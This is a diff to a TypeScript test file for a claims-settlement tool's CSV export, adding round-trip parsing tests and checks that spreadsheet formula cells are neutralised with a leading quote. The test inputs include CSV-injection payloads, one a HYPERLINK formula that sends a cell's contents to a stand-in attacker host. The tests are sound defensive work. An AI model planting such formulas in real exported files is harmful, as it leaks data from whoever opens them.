@@ -12,6 +12,7 @@ import fc from 'fast-check';
 import { chromium } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
 import { main } from '../src/cli/main.js';
+import { parseCsv } from '../src/csv/read.js';
 import { claimResponse } from '../src/format/fhir-claim-response.js';
 import { SETTLEMENT_CSV_COLUMNS, settlementCsvRow } from '../src/format/settlement-csv.js';
 import { settlementToJson } from '../src/format/settlement-json.js';
@@ -79,31 +80,46 @@ describe('FHIR R4 ClaimResponse', () => {
 });
 
 describe('CSV, a row per claim', () => {
+  const cellsOf = (text: string): string[][] => parseCsv(text).map((r) => ('cells' in r ? r.cells : [JSON.stringify(r.problem)]));
+
   it('has a cell per column, and each row adds up: total = hospital + Σ payers + personal', () => {
     for (const r of records) {
-      const cells = settlementCsvRow(settlementToJson(r)).split(',');
+      const [cells] = cellsOf(settlementCsvRow(settlementToJson(r)));
       expect(cells).toHaveLength(SETTLEMENT_CSV_COLUMNS.length);
-      const at = (c: string) => fen(cells[SETTLEMENT_CSV_COLUMNS.indexOf(c as never)]!);
+      const at = (c: string) => fen(cells![SETTLEMENT_CSV_COLUMNS.indexOf(c as never)]!);
       const payers = SETTLEMENT_CSV_COLUMNS.slice(5, 14).reduce((s, c) => s + at(c), 0);
       expect(at('hospitalAbsorbed') + payers + at('personal')).toBe(at('total'));
     }
   });
 
-  it('quotes a cell with a comma or a quote', () => {
+  it('quotes a cell with a comma, a quote or a line break, and reads back', () => {
     const j = settlementToJson(records[0]!);
     expect(settlementCsvRow({ ...j, claimId: 'a,"b"' }).startsWith('"a,""b""",')).toBe(true);
+    expect(cellsOf(settlementCsvRow({ ...j, claimId: 'a\r\nb', personId: 'c\nd' }))[0]!.slice(0, 2)).toEqual(['a\r\nb', 'c\nd']);
   });
 
-  it('the command prints a CSV with a header and sends refused claims to stderr', async () => {
+  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\t=1', '\r=1'])(
+    'neutralises the formula cell %j with a leading quote (OWASP), and reads it back as it was',
+    (id) => {
+      const row = settlementCsvRow({ ...settlementToJson(records[0]!), claimId: id, personId: id });
+      expect(row.replace(/^"/, '').startsWith(`'${id[0]}`)).toBe(true);
+      expect(cellsOf(row)[0]!.slice(0, 2)).toEqual([id, id]);
+    },
+  );
+
+  it('the command prints a CSV with a header, CRLF line ends, and sends refused claims to stderr', async () => {
     let out = '';
     let err = '';
     const claim = JSON.parse(readFileSync(join(__dirname, '../examples/claims/01-poor-inpatient-in-county.json'), 'utf8'));
-    const stdin = Readable.from([`${JSON.stringify(claim)}\n{"id": "X"}\n`]);
+    const stdin = Readable.from([`${JSON.stringify({ ...claim, id: '=1+1' })}\n{"id": "X"}\n`]);
     const code = await main(['settle', '-', '--format', 'csv'], { out: (s) => (out += s), err: (s) => (err += s), stdin });
     expect(code).toBe(1);
-    const lines = out.trim().split('\n');
-    expect(lines[0]).toBe(SETTLEMENT_CSV_COLUMNS.join(','));
-    expect(lines).toHaveLength(2);
+    expect(out.endsWith('\r\n')).toBe(true);
+    const rows = cellsOf(out);
+    expect(rows[0]).toEqual([...SETTLEMENT_CSV_COLUMNS]);
+    expect(rows).toHaveLength(2);
+    expect(out.split('\r\n')[1]!.startsWith("'=1+1,")).toBe(true);
+    expect(rows[1]![0]).toBe('=1+1');
     expect(JSON.parse(err.split('\n')[0]!).line).toBe(2);
   });
 });
